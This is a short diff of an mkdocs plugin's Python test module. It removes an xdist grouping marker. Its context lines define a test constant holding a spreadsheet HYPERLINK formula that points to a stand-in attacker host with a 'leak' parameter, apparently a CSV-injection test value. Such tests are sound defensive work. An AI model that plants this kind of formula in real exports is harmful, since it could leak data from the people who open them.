@@ -22,10 +22,6 @@ from mkdocs_playbooks.engines.config import read_settings
 from ..conftest import build, write_site
 from .conftest import Server, Watched, watch
 
-# Its tests share the site a module fixture builds: one worker runs them all, and builds it
-# once (pytest runs with `--dist loadgroup`; see CONTRIBUTING).
-pytestmark = pytest.mark.xdist_group(__name__)
-
 KEY_JS = "(typeof __md_scope !== 'undefined' ? __md_scope.pathname : '/') + '.mkdocs-playbooks'"
 FORMULA = '=HYPERLINK("https://evil.example/?leak","Open")'
 
